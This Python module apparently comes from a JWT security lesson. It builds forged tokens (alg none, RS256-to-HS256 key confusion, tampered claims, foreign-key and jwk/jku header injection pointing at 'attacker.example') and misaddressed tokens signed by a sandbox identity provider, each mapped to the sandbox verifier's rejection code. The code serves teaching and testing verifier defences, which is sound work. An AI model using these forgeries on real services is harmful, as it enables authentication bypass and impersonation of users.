"""Forged and misused tokens: one builder per attack a verifier must refuse (lesson 07).

Every builder starts from what an attacker really holds: a token the identity provider issued (their
own, or one they intercepted) and the provider's *published* keys. Tokens are put together by hand
(base64url from PyJWT's ``jwt.utils``), so the anatomy of each forgery is in plain sight (shared reference
``jwt-security-cases.md`` §0 builds them the same way). ``expired``, ``not_yet_valid``, ``wrong_issuer``
and ``wrong_audience`` need the identity provider's private key, which no attacker has: they take a
``sign(claims, headers)`` callable such as ``sandbox.idp.keys.sign``. The sandbox lets us sign as the IdP
to show what a verifier does with a genuinely signed but expired (or misaddressed) token.

>>> forged = alg_none(id_token)                     # header {"alg": "none"}, no signature
>>> for attack in ATTACKS: attack.build(inputs)     # every attack, ready to send to the API
"""
from __future__ import annotations

import functools
import hashlib
import hmac
import json
from dataclasses import dataclass
from typing import Any, Callable, NamedTuple

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from jwt.utils import base64url_decode, base64url_encode

__all__ = ["ATTACKS", "Attack", "AttackInputs", "Signer", "VERIFIER_CODES", "alg_none", "attacker_key",
           "expired", "foreign_key_same_kid", "hs256_key_confusion", "jku_header_injection",
           "jwk_header_injection", "not_yet_valid", "public_key_pem", "tampered_payload", "wrong_audience",
           "wrong_issuer"]

Signer = Callable[[dict[str, Any], dict[str, Any] | None], str]
"""``sign(claims, headers) -> token``: the identity provider's own signing (sandbox only)."""

ATTACKER_ISSUER = "https://evil-idp.example/"
ATTACKER_AUDIENCE = "another-app"
ATTACKER_JKU = "https://attacker.example/.well-known/jwks.json"


# ---------------------------------------------------------------------- the anatomy of a token
def _b64url(data: bytes) -> str:
    return base64url_encode(data).decode("ascii")


def _segment(value: dict[str, Any]) -> str:
    return _b64url(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def _read(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """The header, the claims and the signature segment of a token (nothing verified)."""
    header, payload, signature = token.split(".")
    return json.loads(base64url_decode(header)), json.loads(base64url_decode(payload)), signature


def _rs256(header: dict[str, Any], claims: dict[str, Any], key: rsa.RSAPrivateKey) -> str:
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    signature = key.sign(signing_input.encode("ascii"), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{_b64url(signature)}"


@functools.lru_cache(maxsize=1)
def attacker_key() -> rsa.RSAPrivateKey:
    """The attacker's own RSA key pair (made once per process)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _public_jwk(key: rsa.RSAPublicKey, kid: str | None) -> dict[str, Any]:
    numbers = key.public_numbers()
    as_b64 = lambda n: _b64url(n.to_bytes((n.bit_length() + 7) // 8, "big"))  # noqa: E731
    return {"kty": "RSA", "e": as_b64(numbers.e), "n": as_b64(numbers.n), **({"kid": kid} if kid else {})}


def public_key_pem(jwks: dict[str, Any], kid: str) -> bytes:
    """The PEM of the published key with this ``kid``: what anyone can download from ``jwks_uri``."""
    jwk = next(k for k in jwks["keys"] if k.get("kid") == kid)
    n, e = (int.from_bytes(base64url_decode(jwk[name]), "big") for name in ("n", "e"))
    return rsa.RSAPublicNumbers(e, n).public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


# ---------------------------------------------------------------------- forgeries (no private key of the IdP)
def alg_none(token: str, alg: str = "none") -> str:
    """The same claims under ``alg: none`` and an empty signature (CVE-2015-2951)."""
    _, claims, _ = _read(token)
    return f"{_segment({'alg': alg, 'typ': 'JWT'})}.{_segment(claims)}."


def hs256_key_confusion(token: str, jwks_public_key_pem: bytes) -> str:
    """The same claims under ``alg: HS256``, HMAC-signed with the issuer's public key as the secret (CVE-2016-10555)."""
    header, claims, _ = _read(token)
    signing_input = f"{_segment({**header, 'alg': 'HS256'})}.{_segment(claims)}"
    mac = hmac.new(jwks_public_key_pem, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{_b64url(mac)}"


def tampered_payload(token: str, **changes: Any) -> str:
    """The original header and signature around edited claims."""
    header, claims, signature = _read(token)
    return f"{_segment(header)}.{_segment({**claims, **changes})}.{signature}"


def foreign_key_same_kid(token: str) -> str:
    """The same header (RS256, the real ``kid``) and claims, signed with the attacker's own RSA key."""
    header, claims, _ = _read(token)
    return _rs256(header, claims, attacker_key())


def jwk_header_injection(token: str) -> str:
    """Signed with the attacker's key, whose public half rides along in the header's ``jwk`` (CVE-2018-0114)."""
    header, claims, _ = _read(token)
    jwk = _public_jwk(attacker_key().public_key(), header.get("kid"))
    return _rs256({**header, "jwk": jwk}, claims, attacker_key())


def jku_header_injection(token: str, url: str = ATTACKER_JKU) -> str:
    """Signed with the attacker's key, the header's ``jku`` pointing at the attacker's own key set."""
    header, claims, _ = _read(token)
    return _rs256({**header, "jku": url}, claims, attacker_key())


# ---------------------------------------------------------------------- genuinely signed (the IdP's key, sandbox only)
def _resigned(token: str, sign: Signer, **changes: Any) -> str:
    _, claims, _ = _read(token)
    return sign({**claims, **changes}, None)


def expired(token: str, sign: Signer, now: int) -> str:
    """The token's claims signed by the IdP, with the same lifetime but ``exp`` an hour before ``now``."""
    _, claims, _ = _read(token)
    lifetime = claims["exp"] - claims["iat"]
    return _resigned(token, sign, iat=now - 3600 - lifetime, exp=now - 3600)


def not_yet_valid(token: str, sign: Signer, now: int) -> str:
    """The token's claims signed by the IdP, issued (``iat``) an hour after ``now``."""
    _, claims, _ = _read(token)
    lifetime = claims["exp"] - claims["iat"]
    return _resigned(token, sign, iat=now + 3600, exp=now + 3600 + lifetime)


def wrong_issuer(token: str, sign: Signer, issuer: str = ATTACKER_ISSUER) -> str:
    """The token's claims signed by the IdP's key, but ``iss`` naming another issuer."""
    return _resigned(token, sign, iss=issuer)


def wrong_audience(token: str, sign: Signer, audience: str = ATTACKER_AUDIENCE) -> str:
    """The token's claims signed by the IdP, but addressed (``aud``) to another application."""
    return _resigned(token, sign, aud=audience)


# ---------------------------------------------------------------------- the catalog of attacks
@dataclass(frozen=True)
class AttackInputs:
    """What the attacks start from: real tokens, the published key, a victim, and (sandbox only) the IdP's signer."""

    id_token: str  # an ID token the identity provider issued (the attacker's own login)
    access_token: str  # an access token of a login (a JWT for the API's audience)
    public_key_pem: bytes  # the issuer's published signing key, as PEM
    victim_email: str  # whose identity the tampered token claims
    sign: Signer  # the identity provider's signing (sandbox.idp.keys.sign)
    now: int  # the verifier's clock, in seconds
    jku_url: str = ATTACKER_JKU


VERIFIER_CODES: dict[str, str] = {
    "api-token-alg-not-allowed": "alg_not_allowed",
    "api-token-bad-signature": "bad_signature",
    "api-token-expired": "expired",
    "api-token-not-yet-valid": "not_yet_valid",
    "api-token-unknown-issuer": "bad_issuer",
    "api-token-wrong-audience": "bad_audience",
    "api-token-access-token": "wrong_token_type",
}
"""Error catalog id -> the :data:`helpers.verify.REASONS` code ``verify_token`` gives for the same token."""


class Attack(NamedTuple):
    """One attack: its name, how to build it from :class:`AttackInputs`, and the API's catalog entry."""

    name: str
    build: Callable[[AttackInputs], str]
    catalog_id: str

    @property
    def changed(self) -> str:
        """What the attacker changed (the builder's docstring)."""
        return (self.build.__doc__ or "").strip()

    @property
    def verifier_code(self) -> str:
        """The code ``helpers.verify.verify_token`` gives for this attack's token."""
        return VERIFIER_CODES[self.catalog_id]


def _none(i: AttackInputs) -> str:
    """header alg "none", signature removed"""
    return alg_none(i.id_token)


def _confusion(i: AttackInputs) -> str:
    """header alg "HS256", HMAC keyed with the public key"""
    return hs256_key_confusion(i.id_token, i.public_key_pem)


def _tampered(i: AttackInputs) -> str:
    """email claim edited, signature kept"""
    return tampered_payload(i.id_token, email=i.victim_email)


def _foreign(i: AttackInputs) -> str:
    """signed with the attacker's key, real kid"""
    return foreign_key_same_kid(i.id_token)


def _jwk(i: AttackInputs) -> str:
    """attacker's key embedded as header jwk"""
    return jwk_header_injection(i.id_token)


def _jku(i: AttackInputs) -> str:
    """header jku points to the attacker's JWKS"""
    return jku_header_injection(i.id_token, i.jku_url)


def _expired(i: AttackInputs) -> str:
    """exp an hour ago (signed by the IdP)"""
    return expired(i.id_token, i.sign, i.now)


def _not_yet(i: AttackInputs) -> str:
    """iat an hour ahead (signed by the IdP)"""
    return not_yet_valid(i.id_token, i.sign, i.now)


def _issuer(i: AttackInputs) -> str:
    """iss of another issuer (signed by the IdP)"""
    return wrong_issuer(i.id_token, i.sign)


def _audience(i: AttackInputs) -> str:
    """aud of another app (signed by the IdP)"""
    return wrong_audience(i.id_token, i.sign)


def _access(i: AttackInputs) -> str:
    """nothing: a genuine access token"""
    return i.access_token


ATTACKS: list[Attack] = [
    Attack("alg none", _none, "api-token-alg-not-allowed"),
    Attack("RS256->HS256 key confusion", _confusion, "api-token-alg-not-allowed"),
    Attack("tampered payload", _tampered, "api-token-bad-signature"),
    Attack("foreign key, right kid", _foreign, "api-token-bad-signature"),
    Attack("jwk header injection", _jwk, "api-token-bad-signature"),
    Attack("jku header injection", _jku, "api-token-bad-signature"),
    Attack("expired", _expired, "api-token-expired"),
    Attack("not yet valid", _not_yet, "api-token-not-yet-valid"),
    Attack("wrong issuer", _issuer, "api-token-unknown-issuer"),
    Attack("wrong audience", _audience, "api-token-wrong-audience"),
    Attack("access token as ID token", _access, "api-token-access-token"),
]
"""Every attack of lesson 07, each refused by the sandbox API with its catalog entry (tests/test_attacks.py)."""
